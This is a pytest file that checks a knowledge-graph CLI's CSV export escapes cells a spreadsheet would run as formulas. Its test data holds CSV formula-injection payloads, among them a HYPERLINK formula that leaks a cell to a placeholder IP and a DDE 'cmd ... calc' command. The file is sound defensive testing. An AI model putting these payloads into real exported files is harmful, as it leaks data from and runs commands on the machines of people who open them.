"""CSV results and spreadsheets (issue 19): `kg query --format csv` protects cells a
spreadsheet would run as formulas, `--raw-csv` writes them exactly."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from kg.sparql.csvsafe import protect
from tests.conftest import DATA, ROOT, run_kg

VALUES = ['=HYPERLINK("http://203.0.113.1/?leak="&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0",
          "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-5", "+1.5e3", "plain", "a=b"]
SAFE = ["'" + VALUES[0], "'+1+1", "'" + VALUES[2], "'@SUM(A1:A9)", "'\t=1+1", "'\r=1+1",
        "-5", "+1.5e3", "plain", "a=b"]
SPARQL = ('SELECT ?l WHERE { ?e rdfs:label ?l FILTER(STRSTARTS(STR(?e), '
          '"https://w3id.org/kg/resource/formula-")) } ORDER BY ?e')


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("formulas")
    shutil.copytree(DATA, root / "data")
    lines = ["entities:\n"] + [
        f"  - {{id: formula-{i:02d}, type: Person, label: {json.dumps(v)}}}\n"
        for i, v in enumerate(VALUES)]
    (root / "data" / "formulas.yaml").write_text("".join(lines), encoding="utf-8")
    return root


def _csv(project: Path, *options: str) -> str:
    """The CLI's standard output as bytes decoded (run_kg's text mode would turn the CR
    inside a cell into a line feed)."""
    env = dict(os.environ, PYTHONPATH=str(ROOT), PYTHONIOENCODING="utf-8")
    done = subprocess.run([sys.executable, "-m", "kg", "query", "--format", "csv", *options,
                           SPARQL], cwd=project, env=env, capture_output=True, check=False,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    return done.stdout.decode("utf-8")


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["l"]
    return [row[0] for row in rows[1:]]


def test_csv_protects_formulas_by_default(project: Path) -> None:
    assert _cells(_csv(project)) == SAFE


def test_raw_csv_writes_values_exactly(project: Path) -> None:
    assert _cells(_csv(project, "--raw-csv")) == VALUES


def test_other_formats_are_untouched(project: Path) -> None:
    done = run_kg("query", "--format", "json", SPARQL, cwd=project)
    assert done.returncode == 0, done.stderr
    doc = json.loads(done.stdout)
    assert [b["l"]["value"] for b in doc["results"]["bindings"]] == VALUES


@pytest.mark.parametrize(("cell", "expected"), list(zip(VALUES, SAFE, strict=True)))
def test_protect(cell: str, expected: str) -> None:
    assert protect(cell) == expected
